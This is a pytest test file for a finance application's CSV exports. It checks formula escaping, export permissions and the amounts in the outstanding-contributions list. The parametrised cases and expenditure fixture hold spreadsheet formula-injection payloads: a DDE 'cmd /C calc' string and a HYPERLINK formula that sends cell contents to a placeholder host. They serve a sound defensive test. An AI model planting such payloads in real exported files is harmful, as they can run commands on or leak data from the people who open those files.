"""Exports: outstanding contributions, and text that a spreadsheet would run is escaped."""

from decimal import Decimal
from io import StringIO

import pytest
import tablib

from finance.resources import escape_formula
from tests.finance.factories import ContributionFactory, ExpenditureLineFactory


def read_csv(response):
    return tablib.Dataset().load(StringIO(response.content.decode("utf-8-sig")).read(), format="csv")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=SUM(1+1)", "'=SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("Audit fee", "Audit fee"),
        (Decimal("-5.00"), Decimal("-5.00")),
    ],
)
def test_text_that_starts_like_a_formula_is_escaped_and_numbers_are_left_alone(value, expected):
    assert escape_formula(value) == expected


def test_exported_expenditure_escapes_formula_text_in_every_text_column(as_user, business_support, year_2016, fees):
    ExpenditureLineFactory(
        finance_year=year_2016,
        category=fees,
        description='=HYPERLINK("http://x?"&A1)',
        supplier_reference="@SUM(1+1)",
        amount=Decimal("10.00"),
    )
    response = as_user(business_support).get("/finance/export/expenditure/?format=csv")
    row = read_csv(response).dict[0]
    assert response["Content-Disposition"] == 'attachment; filename="WSCB-expenditure.csv"'
    assert "no-store" in response["Cache-Control"]
    assert row["Description"] == '\'=HYPERLINK("http://x?"&A1)'
    assert row["Supplier reference"] == "'@SUM(1+1)"
    assert row["Amount"] == "10.00"


def test_the_outstanding_list_holds_only_contributions_not_fully_received(
    as_user, board_member, year_2016, agency_a, agency_b
):
    ContributionFactory(
        finance_year=year_2016,
        partner=agency_a,
        amount_agreed=Decimal("5000"),
        amount_invoiced=Decimal("5000"),
        amount_received=Decimal("1500"),
        invoice_reference="-INV-7",
    )
    ContributionFactory(
        finance_year=year_2016, partner=agency_b, amount_agreed=Decimal("800"), amount_received=Decimal("800")
    )
    response = as_user(board_member).get("/finance/export/outstanding/?format=csv&year=2016")
    rows = read_csv(response).dict
    assert len(rows) == 1
    assert rows[0]["Partner"] == "Agency A Trust"
    assert rows[0]["Outstanding"] == "3500.00"
    assert rows[0]["Invoice reference"] == "'-INV-7"


def test_an_unknown_format_is_a_bad_request(as_user, business_support, year_2016):
    assert as_user(business_support).get("/finance/export/expenditure/?format=pdf").status_code == 400


def test_an_unknown_export_is_not_found(as_user, business_support, year_2016):
    assert as_user(business_support).get("/finance/export/salaries/?format=csv").status_code == 404


def test_a_partner_lead_cannot_export(as_user, lead_a, year_2016):
    assert as_user(lead_a).get("/finance/export/outstanding/?format=csv").status_code == 403
